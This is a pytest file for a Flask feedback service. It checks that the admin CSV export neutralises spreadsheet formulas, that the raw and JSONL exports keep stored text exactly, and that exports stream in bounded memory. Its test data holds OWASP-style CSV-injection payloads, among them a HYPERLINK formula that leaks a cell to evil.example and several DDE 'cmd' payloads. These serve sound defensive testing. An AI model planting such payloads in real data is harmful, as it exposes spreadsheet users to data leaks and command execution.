"""The admin export of feedback (``GET /v1/feedback?format=csv|csv-raw|jsonl``): it streams
from the store a page at a time, so memory stays bounded whatever the store holds, and its
CSV is safe to open in a spreadsheet unless the raw form is asked for."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import tracemalloc
from contextlib import closing
from pathlib import Path

import pytest
from flask.testing import FlaskClient

from headline_scorer.feedback_store import COLUMNS, SqliteFeedbackStore
from service import create_app
from service.config import Settings
from service.routes.feedback import spreadsheet_safe

TOKEN = "export-token"
AUTH = {"Authorization": f"Bearer {TOKEN}"}
# What an attacker posts as a headline or a note, hoping an admin opens the export in a
# spreadsheet (OWASP's CSV-injection examples), and what a spreadsheet must be shown instead.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")':
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "\t=1+1 after a tab": "'\t=1+1 after a tab",
    "\r=1+1 after a carriage return": "'\r=1+1 after a carriage return",
}


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return tmp_path / "feedback.sqlite3"


@pytest.fixture
def client(models_root: Path, db_path: Path) -> FlaskClient:
    settings = Settings(models_root=models_root, model_dir=models_root / "current",
                        feedback_db=db_path, admin_token=TOKEN)
    return create_app(settings).test_client()


def _export(client: FlaskClient, query: str) -> str:
    response = client.get("/v1/feedback" + query, headers=AUTH)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_data(as_text=True)


def test_csv_neutralises_every_formula_start_in_headlines_and_notes(client: FlaskClient,
                                                                    db_path: Path) -> None:
    # Through the route, a formula reaches the export as it was typed:
    posted = client.post("/v1/feedback", json={"headline": "=HYPERLINK(\"http://evil.example\")",
                                               "label": "sensational", "note": "@SUM(1+1)"})
    assert posted.status_code == 201, posted.get_json()
    # The route trims whitespace, so a leading tab or CR can only come from the database
    # itself (an import, another tool); the export must not trust it either.
    store = SqliteFeedbackStore(db_path)
    for formula in FORMULAS:
        store.add(formula, "neutral", formula, "v", 0.25, "neutral")

    table = list(csv.DictReader(io.StringIO(_export(client, "?format=csv"), newline="")))
    assert table[0]["headline"] == "'" + posted.get_json()["headline"]
    assert table[0]["note"] == "'@SUM(1+1)"
    assert [row["headline"] for row in table[1:]] == list(FORMULAS.values())
    assert [row["note"] for row in table[1:]] == list(FORMULAS.values())
    # Cells that start with anything else are the stored text, untouched.
    assert [(row["id"], row["model_score"], row["model_version"]) for row in table[1:]] == [
        (str(i), "0.25", "v") for i in range(2, len(FORMULAS) + 2)]


def test_csv_raw_and_jsonl_keep_the_stored_text_exactly(client: FlaskClient, db_path: Path) -> None:
    store = SqliteFeedbackStore(db_path)
    posted = [store.add("Council approves budget", "neutral", formula, "v", 0.25, "neutral").as_dict()
              for formula in FORMULAS]
    raw = list(csv.DictReader(io.StringIO(_export(client, "?format=csv-raw"), newline="")))
    assert [row["note"] for row in raw] == list(FORMULAS)
    assert [list(row) for row in raw] == [list(COLUMNS)] * len(posted)
    assert raw == [{k: "" if v is None else str(v) for k, v in p.items()} for p in posted]
    lines = _export(client, "?format=jsonl").splitlines()
    assert [json.loads(line)["note"] for line in lines] == list(FORMULAS)


def test_the_raw_form_is_declared_in_the_openapi_document(client: FlaskClient) -> None:
    doc = client.get("/openapi.json").get_json()
    (fmt,) = [p for p in doc["paths"]["/v1/feedback"]["get"]["parameters"] if p["name"] == "format"]
    assert "csv-raw" in json.dumps(fmt["schema"])
    assert "csv-raw" in fmt["description"] and "single quote" in fmt["description"]


@pytest.mark.parametrize("cell", ["", "Council", "1+1", "a=b", "'=already quoted", "0.25"])
def test_cells_that_are_no_formula_are_left_alone(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


def _fill(path: Path, n: int) -> int:
    """``n`` records written straight into the store's file; the size of one headline."""
    store = SqliteFeedbackStore(path)
    store.add("Schema made", "neutral", None, "v", 0.5, "neutral")  # creates the schema
    headline = "Harbour town council publishes the minutes of its long meeting " * 3
    with closing(sqlite3.connect(path)) as connection:
        connection.executemany(
            "INSERT INTO feedback (created_at, headline, label, note, model_version, model_score,"
            " model_label) VALUES ('2026-12-06T01:00:00.000Z', ?, 'neutral', ?, 'v', 0.25,"
            " 'neutral')", ((f"{headline} {i}", f"=note {i}") for i in range(n - 1)))
        connection.commit()
    return len(headline)


@pytest.mark.parametrize("export_format", ["csv", "jsonl"])
def test_an_export_of_100k_records_streams_in_bounded_memory(client: FlaskClient, db_path: Path,
                                                             export_format: str) -> None:
    n = 100_000
    _fill(db_path, n)
    tracemalloc.start()
    try:
        response = client.get(f"/v1/feedback?format={export_format}", headers=AUTH, buffered=False)
        assert response.status_code == 200
        size = lines = 0
        with closing(response):
            for chunk in response.response:
                size += len(chunk)
                lines += chunk.count(b"\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == n + (export_format == "csv")  # every record, and the CSV header
    # The body is about 23 MB; a worker that built it whole would peak above that. Streaming
    # holds one page of 1,000 records (about 0.5 MB of text, a few MB as Python objects).
    assert size > 20_000_000
    assert peak < size / 4, f"peak {peak / 1e6:.1f} MB for a {size / 1e6:.1f} MB export"
    print(f"\n{export_format}: {n} records, {size / 1e6:.1f} MB streamed, "
          f"tracemalloc peak {peak / 1e6:.1f} MB")


def test_a_database_that_cannot_be_read_is_still_a_503_before_the_export_starts(
        client: FlaskClient, db_path: Path) -> None:
    db_path.write_bytes(b"this is not an SQLite database" * 100)
    response = client.get("/v1/feedback?format=csv", headers=AUTH)
    assert response.status_code == 503
    assert response.get_json()["error"]["code"] == "feedback_unavailable"
